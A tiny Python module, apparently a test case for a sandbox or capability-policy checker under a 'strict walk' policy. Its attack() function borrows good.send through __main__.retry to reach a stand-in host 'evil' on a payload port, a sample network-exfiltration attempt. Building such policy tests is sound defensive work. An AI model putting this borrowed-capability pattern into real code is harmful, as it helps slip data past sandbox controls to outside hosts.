"""The same under the strict walk."""
CATEGORY = "borrowed"
REACH = "net"
POLICY = {"$walk": "strict"}

from . import payload


def attack():
    import __main__
    import good
    __main__.retry(good.send, "evil", payload.PORT)
